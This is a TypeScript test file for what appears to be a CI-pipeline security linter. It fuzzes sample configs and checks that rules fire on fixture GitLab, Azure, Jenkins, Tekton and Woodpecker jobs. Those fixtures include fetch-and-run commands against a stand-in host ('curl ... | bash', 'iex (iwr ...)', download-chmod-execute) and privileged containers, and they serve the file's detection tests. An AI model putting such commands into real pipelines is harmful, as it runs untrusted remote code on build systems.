import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { testScope } from '#analyze/binary/testing/file.ts';
import type { FileResult } from '#contract/check.ts';
import { isCaissonError } from '#kit/error.ts';
import type { Fault } from '#model/fault.ts';
import { samples } from '#pipeline/system/testing.ts';
import { builtInCheckers } from '../../src/built-in-checkers.ts';

const checkers = await builtInCheckers(join(import.meta.dirname, '..', '..', 'data'), {
  include: ['all'],
});

function checkAll(path: string, bytes: Uint8Array): FileResult | undefined {
  const checker = checkers.find((one) => one.recognises(path, bytes.subarray(0, 4096)));
  return checker?.check({ path, bytes, sibling: () => undefined }, testScope());
}

function faultsOrLimit(path: string, bytes: Uint8Array): readonly Fault[] {
  try {
    return checkAll(path, bytes)?.faults ?? [];
  } catch (error) {
    if (isCaissonError(error) && /^(?:input|limit)\./.test(error.code)) return [];
    throw error;
  }
}

test.for(Object.entries(samples))(
  '%s, changed anywhere, is checked without a crash',
  ([path, sample]) => {
    const bytes = Buffer.from(sample);
    const changed = fc
      .tuple(fc.nat(bytes.length), fc.nat(40), fc.uint8Array({ maxLength: 4 }))
      .map(([at, length, put]) =>
        Buffer.concat([bytes.subarray(0, at), put, bytes.subarray(at + length)]),
      );
    fc.assert(
      fc.property(changed, (text) => {
        const faults = faultsOrLimit(path, text);
        const edits = faults.flatMap(({ fixes = [] }) => fixes.flatMap((fix) => fix.edits));

        expect(faults.every(({ locations: [{ line = 0 }] }) => line > 0)).toBe(true);
        expect(edits.every(({ start, end }) => start <= end && end <= text.length)).toBe(true);
      }),
      { numRuns: 60 },
    );
  },
);

const shared: readonly (readonly [string, string, string, readonly string[]])[] = [
  [
    'commands of a GitLab job',
    '.gitlab-ci.yml',
    `scan:
  image: node
  variables: { CI_DEBUG_TRACE: "true" }
  tags: [self-hosted]
  rules: [{ if: $CI_MERGE_REQUEST_IID }]
  script:
    - trivy image app || true
    - docker run --privileged x
    - curl -o t https://x.example/t && chmod +x t && ./t
    - npm install left-pad
`,
    ['0007', '0009', '0032', '0041', '0044', '0081', '0082'],
  ],
  [
    'steps of an Azure job',
    'azure-pipelines.yml',
    `pr: [main]
pool: mine
variables: { system.debug: true }
container: { image: "a:1", options: --privileged }
steps:
  - script: trivy fs .
    continueOnError: true
  - powershell: iex (iwr https://x.example/i.ps1)
  - task: AzureCLI@2
    inputs: { scriptType: bash, inlineScript: "curl https://x.example/i.sh | bash" }
`,
    ['0007', '0009', '0032', '0042', '0081', '0082'],
  ],
  [
    'shell steps of a Jenkinsfile',
    'Jenkinsfile',
    `@Library('tools') _
node('x') {
  sh 'curl https://x.example/i.sh | sh'
  def text = sh(returnStdout: true, script: 'git show -s --format=%s')
  sh "echo " + text
  docker.image('golang').inside { sh 'docker run --privileged x' }
}
`,
    ['0001', '0007', '0040', '0041', '0082'],
  ],
  [
    'a pod in a Jenkinsfile',
    'Jenkinsfile',
    `pipeline { agent { kubernetes { yaml '''
spec:
  containers:
  - name: a
    image: golang:latest
    securityContext: {}
''' } } }
`,
    ['0041'],
  ],
  [
    'a step of Tekton',
    'task.yaml',
    `apiVersion: tekton.dev/v1
kind: Task
spec:
  steps:
    - image: alpine
      onError: continue
      script: |
        trivy fs .
        wget -O- https://x.example/i.sh | sh
`,
    ['0007', '0041', '0081'],
  ],
  [
    'commands of Woodpecker',
    '.woodpecker.yml',
    'steps:\n  a:\n    image: alpine\n    failure: ignore\n    commands: [trivy fs ., "curl https://x.example | sh"]\n',
    ['0007', '0041', '0081'],
  ],
];

test.for(shared)('checks of all systems see %s', ([, path, text, wanted]) => {
  const rules = new Set(checkAll(path, Buffer.from(text))?.faults.map(({ rule }) => rule));

  expect([...rules].filter((rule) => rule < 'CSN-CI-0100')).toEqual(
    expect.arrayContaining(wanted.map((number) => `CSN-CI-${number}`)),
  );
});
